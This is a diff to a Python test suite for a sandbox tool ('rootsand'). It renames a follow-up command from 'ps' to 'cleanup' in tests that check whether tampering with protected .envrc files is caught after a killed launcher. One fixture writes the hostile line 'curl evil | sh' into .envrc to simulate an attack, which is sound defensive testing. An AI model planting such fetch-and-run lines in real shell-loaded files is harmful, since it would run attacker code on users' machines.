@@ -691,7 +691,7 @@ def test_a_second_sandbox_over_the_parent_plants_nothing_git_runs(tmp_path, prof
 
 def killed_once_ready(directory, script: str, meanwhile=lambda: None) -> None:
     """A sandbox in `directory` running `script` (which ends by saying "ready"), then `meanwhile()`, then its
-    launcher killed with SIGKILL, leaving its checks to the next command."""
+    launcher killed with SIGKILL, leaving its checks to the next sweep (`rootsand cleanup`)."""
     proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", f"{script}; exec sleep 600"], cwd=directory,
                             env=env_in(directory), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
@@ -715,7 +715,7 @@ def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launc
     killed_once_ready(proj, "echo ready", lambda: sandbox(
         "sh", "-c", "echo 'curl evil | sh' >> proj/.envrc", opts=["--unprotect", ".envrc"], cwd=tmp_path,
         env=env_in(tmp_path), check_rc=0))
-    r = run(["ps"], check_rc=0)  # the next command checks what the killed launcher could not
+    r = run(["cleanup"], check_rc=0)  # checks what the killed launcher could not
     assert any(line.startswith(f"rootsand: warning: {proj}/.envrc was changed during the run, from outside the "
                                "sandbox, while it was read-only inside") for line in r.stderr.splitlines()), r.stderr
     assert [STAMP.sub("STAMP", n) for n in sorted(os.listdir(proj))] == [".envrc.STAMP"]
@@ -723,7 +723,7 @@ def test_a_pinned_path_changed_in_place_meanwhile_is_caught_after_a_killed_launc
 
 def test_what_a_killed_launchers_sandbox_made_at_a_protected_name_is_caught(tmp_path):
     killed_once_ready(tmp_path, "echo evil > .envrc; echo ready")
-    r = run(["ps"], check_rc=0)
+    r = run(["cleanup"], check_rc=0)
     assert f"rootsand: warning: {tmp_path}/.envrc was made during the run" in r.stderr
     assert [STAMP.sub("STAMP", n) for n in sorted(os.listdir(tmp_path))] == [".envrc.STAMP"]
 
